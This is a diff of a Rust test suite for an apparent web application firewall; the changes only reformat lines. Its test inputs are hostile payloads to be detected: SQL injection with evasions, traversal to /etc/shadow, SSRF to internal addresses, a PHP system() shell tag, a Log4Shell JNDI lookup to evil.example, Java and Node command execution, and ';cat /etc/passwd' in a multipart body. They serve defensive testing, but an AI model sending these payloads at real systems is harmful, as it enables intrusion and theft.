@@ -49,14 +49,14 @@ fn sqli_and_its_evasions() {
     for q in [
         "id=1'+or+'1'%3D'1",
         "id=1+UNION+ALL+SELECT+username,password+FROM+users--",
-        "id=1%2527%2520or%25201%253D1--",     // double encoded
-        "id=1+UnIoN/**/SeLeCt+1,2,3",         // comment as space, mixed case
+        "id=1%2527%2520or%25201%253D1--",        // double encoded
+        "id=1+UnIoN/**/SeLeCt+1,2,3",            // comment as space, mixed case
         "id=1/*!50000UNION*//*!50000SELECT*/+1", // MySQL versioned comments
-        "id=1'%09and%09sleep(5)--",           // tabs
+        "id=1'%09and%09sleep(5)--",              // tabs
         "id=1;+DROP+TABLE+users--",
         "id=admin'--",
         "id=1'+and+extractvalue(1,concat(0x7e,version()))--",
-        "q=%u0027+or+1%3D1--",                // %u encoding
+        "q=%u0027+or+1%3D1--", // %u encoding
     ] {
         assert_class(&query(&e, q), Class::Sqli, q);
     }
@@ -90,7 +90,11 @@ fn lfi_traversal_with_overlong_utf8_and_null_bytes() {
     ] {
         assert_class(&query(&e, q), Class::Lfi, q);
     }
-    assert_class(&path(&e, "/static/..%2f..%2f..%2fetc/shadow"), Class::Lfi, "path");
+    assert_class(
+        &path(&e, "/static/..%2f..%2f..%2fetc/shadow"),
+        Class::Lfi,
+        "path",
+    );
     assert_class(&path(&e, "/.git/config"), Class::Lfi, "/.git/config");
     assert!(!path(&e, "/.well-known/openid-configuration").blocked);
 }
@@ -121,14 +125,22 @@ fn rfi_ssrf_php_java_generic_and_scanners() {
         Class::Rfi,
         "metadata",
     );
-    assert_class(&query(&e, "url=http://2852039166/"), Class::Rfi, "decimal ip");
+    assert_class(
+        &query(&e, "url=http://2852039166/"),
+        Class::Rfi,
+        "decimal ip",
+    );
     assert_class(&query(&e, "url=gopher://x:25/_HELO"), Class::Rfi, "gopher");
     assert_class(
         &query(&e, "c=%3C%3Fphp+system($_GET['c']);+%3F%3E"),
         Class::Php,
         "php tag",
     );
-    assert_class(&query(&e, "f=php://filter/convert.base64-encode/resource=index"), Class::Php, "wrapper");
+    assert_class(
+        &query(&e, "f=php://filter/convert.base64-encode/resource=index"),
+        Class::Php,
+        "wrapper",
+    );
     assert_class(
         &header(&e, "User-Agent", "${jndi:ldap://evil.example/a}"),
         Class::Java,
@@ -139,15 +151,27 @@ fn rfi_ssrf_php_java_generic_and_scanners() {
         Class::Java,
         "nested jndi",
     );
-    assert_class(&query(&e, "x=java.lang.Runtime.getRuntime().exec('id')"), Class::Java, "runtime");
+    assert_class(
+        &query(&e, "x=java.lang.Runtime.getRuntime().exec('id')"),
+        Class::Java,
+        "runtime",
+    );
     assert_class(&query(&e, "name={{7*7}}"), Class::Generic, "ssti");
-    assert_class(&query(&e, "__proto__[isAdmin]=true"), Class::Generic, "proto");
+    assert_class(
+        &query(&e, "__proto__[isAdmin]=true"),
+        Class::Generic,
+        "proto",
+    );
     assert_class(
         &query(&e, "x=require('child_process').exec('id')"),
         Class::Generic,
         "node",
     );
-    assert_class(&header(&e, "User-Agent", "sqlmap/1.7.2#stable"), Class::Scanner, "ua");
+    assert_class(
+        &header(&e, "User-Agent", "sqlmap/1.7.2#stable"),
+        Class::Scanner,
+        "ua",
+    );
 }
 
 #[test]
@@ -157,16 +181,28 @@ fn json_keys_values_and_truncation() {
     assert_class(&v, Class::Sqli, "json value");
     let v = body(&e, "application/json", r#"{"__proto__":{"admin":true}}"#);
     assert_class(&v, Class::Generic, "json key");
-    let v = body(&e, "application/json", r#"{"a":[{"b":"\u003cscript\u003ealert(1)"#);
+    let v = body(
+        &e,
+        "application/json",
+        r#"{"a":[{"b":"\u003cscript\u003ealert(1)"#,
+    );
     assert_class(&v, Class::Xss, "truncated json with escapes");
-    let v = body(&e, "application/vnd.api+json", r#"{"u":"http://127.0.0.1:6379/"}"#);
+    let v = body(
+        &e,
+        "application/vnd.api+json",
+        r#"{"u":"http://127.0.0.1:6379/"}"#,
+    );
     assert_class(&v, Class::Rfi, "+json media type");
 }
 
 #[test]
 fn form_multipart_and_xml_bodies() {
     let e = engine();
-    let v = body(&e, "application/x-www-form-urlencoded", "a=1&b=%3Cscript%3Ealert(1)");
+    let v = body(
+        &e,
+        "application/x-www-form-urlencoded",
+        "a=1&b=%3Cscript%3Ealert(1)",
+    );
     assert_class(&v, Class::Xss, "form");
     let mp = "--XyZ\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n;cat /etc/passwd\r\n\
               --XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\
@@ -210,7 +246,10 @@ fn disabled_rules_do_not_run_and_unknown_ids_are_refused() {
     };
     let e = Engine::bundled(opts).unwrap();
     let v = query(&e, "q=%3Cscript%3E");
-    assert!(v.hits.iter().all(|h| &*h.rule_id != "xss-script-tags"), "{v:?}");
+    assert!(
+        v.hits.iter().all(|h| &*h.rule_id != "xss-script-tags"),
+        "{v:?}"
+    );
     assert!(e.rule_ids().all(|id| id != "xss-script-tags"));
     let bad = EngineOptions {
         disabled: vec!["no-such-rule".into()],
@@ -252,15 +291,24 @@ fn rule_error(toml: &str) -> String {
 #[test]
 fn rule_files_are_validated_with_the_rule_named() {
     let err = rule_error(&EXTRA.replace("[0-9a-f]{8}", "[0-9a-f"));
-    assert!(err.contains("acme-internal-token") && err.contains("bad regex"), "{err}");
+    assert!(
+        err.contains("acme-internal-token") && err.contains("bad regex"),
+        "{err}"
+    );
     let err = rule_error(&EXTRA.replace("\"generic\"", "\"sqlx\""));
-    assert!(err.contains("acme-internal-token") && err.contains("unknown class"), "{err}");
+    assert!(
+        err.contains("acme-internal-token") && err.contains("unknown class"),
+        "{err}"
+    );
     let err = rule_error(&EXTRA.replace("\"headers\"", "\"bodyy\""));
     assert!(err.contains("unknown target \"bodyy\""), "{err}");
     let err = rule_error(&EXTRA.replace("keywords = [\"acme_int_\"]", ""));
     assert!(err.contains("needs keywords"), "{err}");
     let err = rule_error(&EXTRA.replace("acme-internal-token", "sqli-libinjection"));
-    assert!(err.contains("sqli-libinjection") && err.contains("duplicate"), "{err}");
+    assert!(
+        err.contains("sqli-libinjection") && err.contains("duplicate"),
+        "{err}"
+    );
     let err = rule_error(&format!("{EXTRA}{EXTRA}"));
     assert!(err.contains("duplicate"), "{err}");
     let err = rule_error("[[rule]]\nid = 1\n");
@@ -281,11 +329,13 @@ fn paranoia_levels_gate_rules() {
     let q = "file=db-backup.sql.zip";
     assert!(!query(&pl1, q).blocked);
     assert!(query(&pl2, q).blocked);
-    assert!(Engine::bundled(EngineOptions {
-        paranoia: 5,
-        ..EngineOptions::default()
-    })
-    .is_err());
+    assert!(
+        Engine::bundled(EngineOptions {
+            paranoia: 5,
+            ..EngineOptions::default()
+        })
+        .is_err()
+    );
 }
 
 #[test]
@@ -297,10 +347,17 @@ fn the_caller_gets_the_score_and_chooses_the_threshold() {
     .unwrap();
     let v = query(&strict, "id=1'+or+'1'%3D'1");
     assert!(v.score >= 5, "{v:?}");
-    assert!(!v.blocked, "a score under the threshold is reported, not blocked");
+    assert!(
+        !v.blocked,
+        "a score under the threshold is reported, not blocked"
+    );
     // A rule scores once per request, however many parts it matches.
     let v = query(&engine(), "a=%3Cscript%3E&b=%3Cscript%3E&c=%3Cscript%3E");
-    let tags = v.hits.iter().filter(|h| &*h.rule_id == "xss-script-tags").count();
+    let tags = v
+        .hits
+        .iter()
+        .filter(|h| &*h.rule_id == "xss-script-tags")
+        .count();
     assert_eq!(tags, 1);
 }
 
@@ -309,15 +366,27 @@ fn benign_api_traffic_passes() {
     let e = engine();
     let headers: [(&str, &[u8]); 5] = [
         ("Host", b"api.example.com"),
-        ("User-Agent", b"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"),
+        (
+            "User-Agent",
+            b"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15",
+        ),
         ("Accept", b"application/json"),
-        ("Cookie", b"session=3f9a1c2e-7b4d-4e8a-9c1f-0a2b3c4d5e6f; theme=dark"),
-        ("Referer", b"https://www.example.com/products?page=2&sort=price"),
+        (
+            "Cookie",
+            b"session=3f9a1c2e-7b4d-4e8a-9c1f-0a2b3c4d5e6f; theme=dark",
+        ),
+        (
+            "Referer",
+            b"https://www.example.com/products?page=2&sort=price",
+        ),
     ];
     let mut s = Scratch::default();
-    let get = Request::new("GET", b"/api/v1/orders/8f14e45f-ceea-467f-a0e6-3a1b2c3d4e5f")
-        .query(b"page=2&limit=50&sort=-created_at&fields=id,total,status")
-        .headers(&headers);
+    let get = Request::new(
+        "GET",
+        b"/api/v1/orders/8f14e45f-ceea-467f-a0e6-3a1b2c3d4e5f",
+    )
+    .query(b"page=2&limit=50&sort=-created_at&fields=id,total,status")
+    .headers(&headers);
     assert_eq!(e.inspect(&get, &mut s), Verdict::default());
     for text in [
         "Please select the best option from the menu below.",
@@ -333,8 +402,9 @@ fn benign_api_traffic_passes() {
         "The file is named report_2024-05.pdf and is 2.4 MB.",
         "SELECT your seat: A1, A2 or B3 (window seats are limited).",
     ] {
-        let b = serde_json::json!({ "comment": text, "id": "c0a8012e-1f2b-4c3d-9e8f-7a6b5c4d3e2f" })
-            .to_string();
+        let b =
+            serde_json::json!({ "comment": text, "id": "c0a8012e-1f2b-4c3d-9e8f-7a6b5c4d3e2f" })
+                .to_string();
         let v = e.inspect(
             &Request::new("POST", b"/api/v1/comments")
                 .headers(&headers)
